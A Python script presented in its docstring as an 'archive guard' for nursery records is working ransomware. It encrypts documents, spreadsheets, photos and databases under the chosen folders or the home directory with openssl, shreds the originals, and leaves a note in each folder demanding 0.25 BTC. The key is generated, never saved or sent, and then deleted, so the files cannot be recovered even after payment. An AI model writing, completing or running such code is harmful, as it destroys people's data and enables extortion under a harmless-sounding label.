#!/usr/bin/env python3
"""Archive guard for the nursery records share.

Seals every record file under the given roots with a per-run key and leaves a
notice in each folder explaining how to get the records back.
"""
import argparse
import logging
import os
import secrets
import subprocess
import sys
from pathlib import Path

LOG = logging.getLogger("archive-guard")

EXTENSIONS = {".csv", ".xlsx", ".xls", ".docx", ".pdf", ".jpg", ".png", ".db", ".sqlite", ".txt"}
NOTICE = """YOUR NURSERY RECORDS HAVE BEEN ENCRYPTED.

Order books, stock sheets, invoices and tag photos in this folder are locked.
To receive the key, send 0.25 BTC to the wallet below and e-mail your ID to
recover@example.com within 72 hours. After that the key is destroyed.

Wallet: bc1qexampleexampleexampleexample0000
ID: {run_id}
"""

SEAL_SCRIPT = """#!/bin/bash
set -u
while IFS= read -r f; do
    if openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:SEAL_KEY -in "$f" -out "$f.locked" 2>/dev/null; then
        shred -u "$f" 2>/dev/null || rm -f "$f"
        echo "ok $f"
    else
        echo "fail $f"
    fi
done
"""


def collect(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in EXTENSIONS:
                    yield p


def seal(files, key, script_path):
    script_path.write_text(SEAL_SCRIPT)
    env = dict(os.environ, SEAL_KEY=key)
    proc = subprocess.run(["bash", str(script_path)], input="\n".join(map(str, files)),
                          capture_output=True, text=True, env=env)
    script_path.unlink(missing_ok=True)
    ok = sum(1 for line in proc.stdout.splitlines() if line.startswith("ok "))
    return ok


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("roots", nargs="*", default=[str(Path.home())])
    parser.add_argument("--batch", type=int, default=200)
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    key = secrets.token_urlsafe(32)
    run_id = secrets.token_hex(6)
    files = list(collect(args.roots))
    LOG.info("%d files found", len(files))
    if not files:
        return 0

    script_path = Path.cwd() / f".seal_{run_id}.sh"
    done = 0
    for i in range(0, len(files), args.batch):
        try:
            done += seal(files[i:i + args.batch], key, script_path)
        except OSError as exc:
            LOG.error("batch %d failed: %s", i // args.batch, exc)

    folders = {f.parent for f in files}
    for folder in folders:
        try:
            (folder / "READ_ME_RECORDS.txt").write_text(NOTICE.format(run_id=run_id))
        except OSError:
            pass
    del key
    LOG.info("sealed %d of %d files", done, len(files))
    return 0


if __name__ == "__main__":
    sys.exit(main())
